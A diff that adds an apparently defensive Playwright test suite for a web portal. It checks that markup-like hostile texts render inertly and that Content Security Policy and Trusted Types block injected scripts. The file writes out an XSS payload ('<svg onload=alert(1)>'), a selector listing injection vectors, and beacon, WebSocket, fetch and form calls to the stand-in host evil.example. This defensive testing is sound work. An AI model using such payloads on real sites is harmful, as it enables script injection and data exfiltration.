@@ -1,0 +1,144 @@
+import { expect, type Page } from '@playwright/test';
+import { accounts } from '../support/accounts.ts';
+import { answerHostileTexts, HOSTILE_TEXTS } from '../support/hostile-texts.ts';
+import { journey } from '../support/journey.ts';
+
+/** What only a text that was taken for markup or for an address could have brought into a page. */
+const PLANTED = [
+  '[onload], [onerror], [onfocus], [onbegin], [ontoggle], [onstart], [onmouseover], [onanimationstart]',
+  'iframe, object, embed, base, isindex, marquee, math, video, audio, meta[http-equiv=refresh]',
+  '[href^="javascript:" i], [src^="javascript:" i], [action^="javascript:" i], [href^="data:" i], [src^="data:text" i]',
+].join();
+
+/** Pages of both sides, whether their list is long enough to show every text, and whether its rows open. */
+const PAGES: readonly (readonly [path: string, hasList: boolean, opens: boolean])[] = [
+  ['/invoices?size=100', true, true],
+  ['/customers?size=100', true, true],
+  ['/users', true, true],
+  ['/manage-invoices?size=100', true, true],
+  ['/manage-customers?size=100', true, true],
+  ['/manage-users', true, true],
+  ['/intake?size=100', true, true],
+  ['/manage-providers', true, false],
+  ['/export', false, false],
+  ['/failed-mails', false, false],
+  ['/edit-profile', false, false],
+];
+
+/** How many of the texts stand in the page as they were written. */
+const countTexts = (page: Page) =>
+  page.evaluate(
+    (texts) => texts.filter((text) => document.body.textContent.includes(text)).length,
+    HOSTILE_TEXTS,
+  );
+
+journey.describe('texts that look like markup', () => {
+  journey('are read, never run, wherever they stand', async ({ page, signIn }) => {
+    journey.slow();
+    const alerts: string[] = [];
+    page.on('dialog', (dialog) => {
+      alerts.push(`${dialog.message()} at ${page.url()}`);
+      void dialog.dismiss();
+    });
+    // What is listened for does come where nothing holds it back.
+    await page.setContent('<svg onload=alert(1)>');
+    await expect.poll(() => alerts.length).toBe(1);
+    alerts.length = 0;
+
+    await signIn(accounts.superAdmin);
+    await answerHostileTexts(page);
+    for (const [path, hasList, opens] of PAGES) {
+      await page.goto(path);
+      await expect(page.getByRole('main')).toBeVisible();
+      await expect(page.locator('[aria-busy=true]')).toHaveCount(0);
+      await expect
+        .poll(() => countTexts(page), path)
+        .toBeGreaterThanOrEqual(hasList ? HOSTILE_TEXTS.length : 1);
+      expect(await page.locator(PLANTED).count(), path).toBe(0);
+      if (!opens) continue;
+      await page.locator('tbody [data-slot=open]').first().click();
+      await expect(page.getByRole('dialog')).toContainText('alert(1)');
+      await expect(page.locator('[aria-busy=true]')).toHaveCount(0);
+      expect(await page.locator(PLANTED).count(), `${path}, opened`).toBe(0);
+    }
+    for (const text of HOSTILE_TEXTS.slice(0, 3)) {
+      await page.goto(`/forgot-password?email=${encodeURIComponent(text)}`);
+      await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
+      expect(await page.locator(PLANTED).count()).toBe(0);
+    }
+    expect(alerts).toEqual([]);
+  });
+
+  journey('would find nothing to run and nowhere to go, if one got in', async ({ page, complaints }) => {
+    complaints.expect(/content policy|Content Security Policy|Trusted|Refused to|violates/);
+    await page.goto('/forgot-password');
+    await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
+    const { refused, thrown } = await page.evaluate(tryEverything);
+    // Trusted Types: no text becomes code or markup.
+    expect(thrown).toEqual([
+      ...['eval', 'Function', 'innerHTML', 'insertAdjacentHTML', 'srcdoc', 'script', 'Worker'],
+      ...['handler', 'object'],
+    ]);
+    expect(refused).toEqual([
+      ...['base-uri', 'connect-src', 'font-src', 'form-action', 'frame-src', 'img-src', 'media-src'],
+      ...['require-trusted-types-for', 'style-src-elem'],
+    ]);
+    // Nor is the portal shown within another page.
+    const address = page.url();
+    await page.goto('about:blank');
+    await page.setContent(`<iframe src="${address}"></iframe>`);
+    await expect.poll(() => page.frames().at(-1)?.url()).toMatch(/^chrome-error:/);
+  });
+});
+
+/** Runs in the page, as a script of somebody else would: what throws at once, and which rules of the content policy refuse the rest. */
+async function tryEverything(): Promise<{ refused: string[]; thrown: string[] }> {
+  const refused = new Set<string>();
+  document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) =>
+    refused.add(effectiveDirective),
+  );
+  const elsewhere = 'https://evil.example/';
+  const append = (name: string, attributes: Record<string, string>) => {
+    const element = document.createElement(name);
+    for (const [attribute, value] of Object.entries(attributes)) element.setAttribute(attribute, value);
+    document.body.append(element);
+    return element;
+  };
+  const tries: Record<string, () => unknown> = {
+    eval: () => {
+      window.eval('1');
+    },
+    Function: () => Reflect.construct(Function, ['return 1']),
+    innerHTML: () => (document.body.appendChild(document.createElement('p')).innerHTML = '<b>x</b>'),
+    insertAdjacentHTML: () => document.body.insertAdjacentHTML('beforeend', '<b>x</b>'),
+    srcdoc: () => append('iframe', { srcdoc: '<b>x</b>' }),
+    script: () => append('script', { src: `${elsewhere}x.js` }),
+    Worker: () => new Worker('data:text/javascript,0'),
+    handler: () => append('p', { onclick: 'alert(1)' }).click(),
+    beacon: () => navigator.sendBeacon(elsewhere, 'x'),
+    socket: () => new WebSocket('wss://evil.example/'),
+    image: () => append('img', { src: `${elsewhere}x.png` }),
+    media: () => append('video', { src: `${elsewhere}x.mp4` }),
+    frame: () => append('iframe', { src: elsewhere }),
+    object: () => append('object', { data: `${elsewhere}x.swf` }),
+    base: () => document.head.append(Object.assign(document.createElement('base'), { href: elsewhere })),
+    sheet: () => append('link', { rel: 'stylesheet', href: `${elsewhere}x.css` }),
+    font: () => new FontFace('x', `url(${elsewhere}x.woff2)`).load().catch(() => undefined),
+    form: () => {
+      const form = append('form', { action: elsewhere, method: 'post' });
+      if (form instanceof HTMLFormElement) form.submit();
+    },
+  };
+  const thrown: string[] = [];
+  // What the test's own call runs may use eval; what comes after it is held by the page's policy.
+  await new Promise((resolve) => setTimeout(resolve));
+  for (const [name, attempt] of Object.entries(tries))
+    try {
+      attempt();
+    } catch {
+      thrown.push(name);
+    }
+  await fetch(elsewhere).catch(() => undefined);
+  await new Promise((resolve) => setTimeout(resolve, 500));
+  return { refused: [...refused].sort(), thrown };
+}
